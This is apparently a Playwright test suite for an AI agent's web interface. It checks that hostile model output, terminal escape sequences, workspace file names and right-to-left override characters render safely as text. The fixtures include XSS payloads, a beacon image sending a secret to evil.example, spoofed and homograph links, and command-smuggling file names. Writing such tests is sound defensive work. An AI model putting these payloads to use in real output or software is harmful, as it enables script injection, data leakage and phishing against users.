import type { Page } from '@playwright/test';
import { confirming, expect, finish, log, looks, panel, risky, run, task, test } from './deft';

// The fixture of the page fails every test in which the page asks another host,
// runs what its policy forbids, or throws.

test('markup, beacons and misleading links of the model are text', async ({ deft, page }) => {
  const dialogs: string[] = [];
  page.on('dialog', (d) => (dialogs.push(d.message()), void d.dismiss()));
  await task(
    deft,
    page,
    [
      finish(
        [
          '<script>alert(1)</script><img src=x onerror=alert(2)><iframe srcdoc="<script>alert(3)</script>"></iframe>',
          '![beacon](https://evil.example/pixel.png?secret=1)',
          '[click](javascript:alert(4)) [data](data:text/html,<script>alert(5)</script>)',
          '<style>body{display:none}</style><a href="https://evil.example" style="position:fixed;inset:0">cover</a>',
          '[https://github.com/login](https://evil.example/login)',
          '[аpple](https://xn--pple-43d.com/)',
          '[ref][r]\n\n[r]: https://evil.example/ref "t"',
        ].join('\n\n'),
      ),
    ],
    'Show me <b>markup</b>',
  );
  const said = log(page).locator('.message.agent').last();
  await expect(said).toContainText('<script>alert(1)</script>');
  await expect(log(page).locator('.user-text')).toHaveText('Show me <b>markup</b>');
  await expect(log(page).locator('script, iframe, img, style, [style*=fixed]')).toHaveCount(0);
  await expect(said.locator('a[href^="javascript"], a[href^="data"]')).toHaveCount(0);
  await expect(said.getByRole('link', { name: /github.com/ })).toHaveAttribute('data-host', 'evil.example');
  await expect(said.locator('a[href*="xn--pple"]')).toHaveAttribute('data-host', 'xn--pple-43d.com');
  for (const link of await said.locator('a[href]').all()) {
    await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
    await expect(link).toHaveAttribute('target', '_blank');
  }
  expect(dialogs).toEqual([]);
});

test('escape sequences, long lines and large outputs of commands do no harm', async ({ deft, page }) => {
  await task(
    deft,
    page,
    [
      { reply: { tool_calls: [run('printf "\\033]0;owned\\007\\033[2J\\033]8;;https://evil.example\\007link\\033]8;;\\007\\033[31mred\\033[0m<script>alert(1)</script>\\r\\n"')] } },
      { reply: { tool_calls: [run('yes "0123456789012345678901234567890123456789" | head -c 20000000')] } },
      { reply: { tool_calls: [run('head -c 100000 /dev/zero | tr "\\0" a')] } },
      finish('All done.'),
    ],
    'Print much',
  );
  await expect(log(page).getByText('All done.')).toBeVisible();
  await expect(page).not.toHaveTitle(/owned/);
  // From the last one on: rows far above the one that was opened are not drawn.
  for (const line of (await log(page).locator('.action-line').all()).reverse()) await line.click();
  await expect(log(page).locator('.output').first()).toContainText('<script>alert(1)</script>');
  await expect(log(page).locator('.output script, .output a')).toHaveCount(0);
  const { wide, box } = await page.evaluate(() => ({ wide: document.documentElement.scrollWidth, box: window.innerWidth }));
  expect(wide).toBeLessThanOrEqual(box);
});

test('files of the workspace with hostile names and contents are shown as text', async ({ deft, page }) => {
  await task(
    deft,
    page,
    [{ reply: { tool_calls: [run("touch -- '<img src=x onerror=alert(1)>' $'a\\nb' '-rf' 'x;rm' && printf '<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>' > pic.svg")] } }, finish('Made.')],
    'Make files',
  );
  await expect(log(page).getByText('Made.')).toBeVisible();
  await panel(page, 'Files').click();
  const list = page.locator('.file-list');
  await expect(list).toContainText('<img src=x onerror=alert(1)>');
  await expect(list.locator('img')).toHaveCount(0);
  await page.getByRole('button', { name: /^pic.svg/ }).click();
  await expect(page.getByRole('img', { name: 'pic.svg' })).toHaveAttribute('src', /^data:image\/svg/);
  await page.getByRole('button', { name: 'Source' }).click();
  await expect(page.getByRole('region', { name: 'pic.svg' })).toContainText('onload');
});

// hidden are the texts, tips and names on a page with a character that has no form. Fields are as their user writes them.
const hidden = (page: Page) =>
  page.evaluate(() => {
    const texts = [document.title];
    const nodes = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let node = nodes.nextNode(); node; node = nodes.nextNode()) if (!node.parentElement?.closest('textarea, script')) texts.push((node as Text).data);
    for (const element of document.body.querySelectorAll('*')) for (const name of ['title', 'aria-label', 'alt', 'placeholder']) texts.push(element.getAttribute(name) ?? '');
    return texts.filter((text) => /[\u00ad\u200b\u202a-\u202e\u2066-\u2069]/.test(text));
  });

test('characters without a form are shown wherever a text comes from', async ({ deft, page }) => {
  const turned = 'photo\u202egnp.exe';
  const shown = 'photo\\u{202e}gnp.exe';
  const plan = { command: 'plan', task_list: [{ title: `Plan ${turned}`, notes: turned, status: 'todo' }], security_risk: 'LOW' };
  const answer = [`Open ${turned}`, `## Heading ${turned}`, `[link ${turned}](https://example.org/${turned} "${turned}")`, `\`${turned}\``, `\`\`\`py\n# ${turned}\n\`\`\``, `| ${turned} |\n|---|\n| ${turned} |`, 'By name: a&#x202e;b&shy;c', '![' + turned + '](https://example.org/x.png)'];
  const made = String.raw`mkdir -p "$(printf 'd\342\200\256r')" && printf 'a \342\200\256 b\n' | tee "$(printf 'd\342\200\256r/a\342\200\256txt.exe')"`;
  await task(
    deft,
    page,
    [
      { reply: { reasoning: `Thinks of ${turned}`, text: `Says ${turned}`, tool_calls: [{ name: 'terminal', arguments: { command: made, summary: `Makes ${turned}`, security_risk: 'LOW' } }] } },
      { reply: { tool_calls: [{ name: 'task_tracker', arguments: plan }] } },
      { reply: { tool_calls: [{ name: `tool${turned}`, arguments: { [turned]: turned } }] } },
      { reply: { tool_calls: [risky(`echo ${turned}`)] } },
      { repeat: 'forever', ...finish(answer.join('\n\n')) },
    ],
    `Look at ${turned} and \`${turned}\``,
    confirming,
  );
  const card = page.getByRole('region', { name: 'Confirmation' });
  await expect(card).toContainText(shown);
  expect(await hidden(page), 'a question').toEqual([]);
  await looks(page, 'hidden-confirm');
  await page.getByRole('button', { name: 'Allow once' }).click();
  const said = log(page).locator('.message.agent').last();
  await expect(said).toContainText(`Open ${shown}`);
  await expect(said).toContainText('a\\u{202e}b\\u{ad}c');
  await expect(log(page).locator('.message.user')).toContainText(`${shown} and ${shown}`);
  await expect(said.getByRole('link', { name: 'link' }), 'the link leads where it led').toHaveAttribute('href', 'https://example.org/photo%E2%80%AEgnp.exe');
  for (const line of (await log(page).locator('.action-line, .fold').all()).reverse()) await line.click();
  const id = new URL(page.url()).pathname.split('/')[2];
  const named = await page.request.patch(`${deft.url}/api/v1/app-conversations/${id}`, { headers: { Origin: deft.url }, data: { title: `Title ${turned}`, public: true } });
  expect(named.ok(), await named.text()).toBe(true);
  await page.reload();
  await expect(page).toHaveTitle(`Title ${shown} · Deft`);
  await expect(log(page)).toContainText(`Open ${shown}`);
  expect(await hidden(page), 'a conversation').toEqual([]);
  await looks(page, 'hidden-conversation');
  for (const name of ['Changes', 'Files', 'Plan', 'Agent', 'Usage']) {
    if ((await panel(page, name).count()) === 0) continue;
    await panel(page, name).click();
    await expect(panel(page, name)).toHaveAttribute('aria-current', 'true');
    expect(await hidden(page), name).toEqual([]);
  }
  await page.goto(`${deft.url}/shared/${id}`);
  await expect(page.getByText(`Open ${shown}`)).toBeVisible();
  await expect(page).toHaveTitle(`Title ${shown} · Deft`);
  expect(await hidden(page), 'a shared conversation').toEqual([]);
  await page.goto(deft.url);
  await expect(page.getByRole('link', { name: shown }).first()).toBeVisible();
  expect(await hidden(page), 'the lists').toEqual([]);
});

test('letters from right to left are read in their direction, and move nothing beside them', async ({ deft, page }) => {
  const text = 'שלום עולם, זה קובץ README.md.';
  await task(deft, page, [finish(`${text}\n\n- مرحبا بالعالم.\n\nEnglish words.`)], text);
  const said = log(page).locator('.message.agent').last();
  await expect(said.locator('p').first()).toHaveText(text);
  await expect(log(page).locator('.user-text')).toHaveText(text);
  // A text from right to left begins at the right, one from left to right at the left.
  const side = (n: number) =>
    said.locator('p, li').nth(n).evaluate((p) => {
      const range = new Range();
      range.setStart(p.firstChild!, 0);
      range.setEnd(p.firstChild!, 1);
      const [box, first] = [p.getBoundingClientRect(), range.getBoundingClientRect()];
      return first.left - box.left > box.width / 2 ? 'right' : 'left';
    });
  expect([await side(0), await side(1), await side(2)]).toEqual(['right', 'right', 'left']);
  await looks(page, 'right-to-left');
});
